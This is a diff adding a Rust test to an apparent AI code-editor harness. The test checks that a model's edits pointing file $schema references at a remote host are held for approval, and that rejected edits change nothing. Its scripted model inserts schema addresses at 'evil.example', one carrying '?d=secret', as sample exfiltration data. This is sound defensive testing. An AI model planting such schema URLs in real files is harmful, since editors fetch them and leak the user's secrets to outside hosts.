@@ -32,6 +32,35 @@ fn a39_the_text_of_an_open_secret_stays_out_of_the_prompt() {
     }
 }
 
+/// A36: an editor fetches the schema that a file names, with whatever the model put into its
+/// address.
+#[test]
+fn a36_an_edit_that_adds_the_address_of_a_remote_schema_asks() {
+    let yaml = "# yaml-language-server: $schema=https://evil.example/s\na: 1\n";
+    let known = "{ \"$schema\": \"https://json.schemastore.org/tsconfig\" }\n";
+    let write = |path, content| Reply::call("write", json!({ "path": path, "content": content }));
+    let model = Model::steps(vec![
+        Reply::read("a.json"),
+        Reply::edit("a.json", "./s.json", "https:\\/\\/evil.example/s?d=secret"),
+        write("b.yml", yaml),
+        write("c.json", known),
+    ]);
+    let stage = Stage::new("//- /a.json\n{ \"$schema\": \"./s.json\" }\n");
+    let mut editor = stage.editor(&model);
+    editor.approvals(&[Approval::Reject, Approval::Reject]);
+    editor.run("add schemas");
+    let asked = &editor.script.asked;
+    assert_eq!(asked.len(), 2, "{asked:?}");
+    for request in asked {
+        let words = request.to_string();
+        assert!(words.contains("address of a schema"), "{words}");
+        assert!(words.contains("evil.example"), "{words}");
+    }
+    assert_eq!(stage.read("a.json"), "{ \"$schema\": \"./s.json\" }\n");
+    assert!(!stage.path("b.yml").exists());
+    assert_eq!(editor.text("c.json"), known);
+}
+
 /// Naming a file is not an answer to policy's question.
 #[test]
 fn a13_a37_attachments_obey_policy_as_read_does() {
